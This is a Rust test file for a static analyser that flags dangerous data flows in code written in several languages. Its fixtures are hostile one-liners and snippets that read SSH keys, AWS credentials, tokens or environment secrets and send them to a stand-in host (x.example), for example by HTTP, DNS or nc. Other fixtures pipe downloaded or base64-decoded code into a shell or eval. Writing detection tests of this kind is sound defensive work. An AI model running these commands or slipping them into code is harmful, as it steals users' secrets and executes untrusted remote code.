//! More variants of each flow, per language.

use super::*;

#[test]
fn more_variants() {
    use FlowKind::*;
    let cases: &[(Lang, &str, FlowKind)] = &[
        (
            Lang::Python,
            "import os, requests\nrequests.post(url, data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
            SecretToNetwork,
        ),
        (
            Lang::Python,
            "import os, urllib.request\nwith open(os.path.join(os.environ['HOME'], '.aws', 'credentials')) as f:\n    creds = f.read()\nreq = urllib.request.Request(URL, data=creds.encode())\nurllib.request.urlopen(req)\n",
            SecretToNetwork,
        ),
        (
            Lang::JavaScript,
            "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\nconst data = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nconst req = https.request({hostname: 'x.example', method: 'POST'});\nreq.write(data);\n",
            SecretToNetwork,
        ),
        (
            Lang::Python,
            "import subprocess\nsubprocess.Popen('curl -s http://x.example/i | bash', shell=True)\n",
            DownloadToExec,
        ),
        (
            Lang::Python,
            "import os\nos.popen('wget -qO- http://x.example/i | sh')\n",
            DownloadToExec,
        ),
        (
            Lang::Python,
            "import requests\nexec(compile(requests.get(u).text, 'x', 'exec'))\n",
            DownloadToExec,
        ),
        (
            Lang::JavaScript,
            "require('child_process').exec('curl https://x.example/i | sh')\n",
            DownloadToExec,
        ),
        (
            Lang::JavaScript,
            "const cp = require('child_process');\ncp.execSync(Buffer.from(s, 'base64').toString());\n",
            DecodeToExec,
        ),
        (
            Lang::Ruby,
            "system(\"curl -s https://x.example/i | bash\")\n",
            DownloadToExec,
        ),
        (
            Lang::Ruby,
            "`curl -s https://x.example/i | sh`\n",
            DownloadToExec,
        ),
        (
            Lang::Perl,
            "system(\"curl -s https://x.example/i | sh\");\n",
            DownloadToExec,
        ),
        (
            Lang::PowerShell,
            "$c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($p))\niex $c\n",
            DecodeToExec,
        ),
        (
            Lang::Shell,
            "wget https://x.example/p.sh && bash p.sh\n",
            DownloadToExec,
        ),
        (
            Lang::Shell,
            "curl -sSL https://x.example/i | sudo -E bash -\n",
            DownloadToExec,
        ),
        (
            Lang::Shell,
            "python3 <(curl -s https://x.example/p)\n",
            DownloadToExec,
        ),
        (
            Lang::Shell,
            "cat <<'EOF' | python3\nimport base64, os\nos.system(base64.b64decode('aWQ='))\nEOF\n",
            DecodeToExec,
        ),
        (
            Lang::Shell,
            "python3 - <<EOF\nimport urllib.request as u\nexec(u.urlopen('https://x.example/p').read())\nEOF\n",
            DownloadToExec,
        ),
        (
            Lang::Shell,
            "TOKEN=$(cat ~/.config/gh/hosts.yml ~/.git-credentials)\ncurl -s \"https://x.example/c?d=$TOKEN\"\n",
            SecretToNetwork,
        ),
        (
            Lang::Shell,
            "dig $(cat ~/.aws/credentials | base64 | head -c 60).x.example\n",
            SecretToNetwork,
        ),
        (
            Lang::Shell,
            "printenv | nc x.example 9000\n",
            SecretToNetwork,
        ),
        (
            Lang::Python,
            "import socket, os\ns = socket.create_connection(('x', 1))\ns.send(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n",
            SecretToNetwork,
        ),
        (
            Lang::Python,
            "import smtplib, os\nk = open(os.path.expanduser('~/.netrc')).read()\nsmtplib.SMTP('m').sendmail('a', 'b', k)\n",
            SecretToNetwork,
        ),
        (
            Lang::Python,
            "def fetch(u):\n    import requests\n    return requests.get(u).text\ncode = fetch('https://x.example/p')\nexec(code)\n",
            DownloadToExec,
        ),
    ];
    all_flow(cases);
}

#[test]
fn curl_flags_with_values_are_not_urls() {
    let a = flow(
        Lang::Shell,
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n",
        FlowKind::DownloadToExec,
    );
    assert!(
        a.flows[0].source.what.contains("https://sh.rustup.rs"),
        "{}",
        a.flows[0].source.what
    );
    let a = flow(
        Lang::Python,
        "import os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(os.environ).encode())\n",
        FlowKind::SecretToNetwork,
    );
    assert_eq!(
        a.flows[0].sink.what,
        "sends secret data to https://x.example"
    );
}

#[test]
fn console_transcripts_run_only_prompted_lines() {
    let a = flow(
        Lang::Shell,
        "$ curl -s https://x.example/i | bash\nInstalled | ok\n",
        FlowKind::DownloadToExec,
    );
    assert_eq!(
        a.flows[0].sink.site.text,
        "$ curl -s https://x.example/i | bash"
    );
    no_flow(Lang::Shell, "$ echo hi\nhi | bash\n");
}

#[test]
fn lexed_language_egress_and_exec() {
    use FlowKind::*;
    let cases: &[(Lang, &str, FlowKind)] = &[
        (
            Lang::PowerShell,
            "$k = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri https://x.example/c -Method Post -Body $k\n",
            SecretToNetwork,
        ),
        (
            Lang::PowerShell,
            "$t = $env:GITHUB_TOKEN\nInvoke-WebRequest -Uri \"https://x.example/?t=$t\"\n",
            SecretToNetwork,
        ),
        (
            Lang::PowerShell,
            "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example/p')))\n",
            DownloadToExec,
        ),
        (
            Lang::Ruby,
            "require 'net/http'\nkey = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post_form(URI('https://x.example/k'), 'k' => key)\n",
            SecretToNetwork,
        ),
        (
            Lang::Ruby,
            "eval(Base64.decode64('cHV0cyAx'))\n",
            DecodeToExec,
        ),
        (
            Lang::Perl,
            "use MIME::Base64;\neval(decode_base64('cHJpbnQgMQ=='));\n",
            DecodeToExec,
        ),
        (
            Lang::Perl,
            "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'AWS_SECRET_ACCESS_KEY'};\n$ua->post('https://x.example/c', { k => $k });\n",
            SecretToNetwork,
        ),
    ];
    all_flow(cases);
}

#[test]
fn perl_blocks_keep_their_statements() {
    flow(
        Lang::Perl,
        "use LWP::Simple;\nif ($ok) {\n    my $c = get('https://x.example/p');\n    eval($c);\n}\n",
        FlowKind::DownloadToExec,
    );
    flow(
        Lang::Perl,
        "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'API_TOKEN'};\n$ua->post('https://x.example/c', { k => $k });\n",
        FlowKind::SecretToNetwork,
    );
}
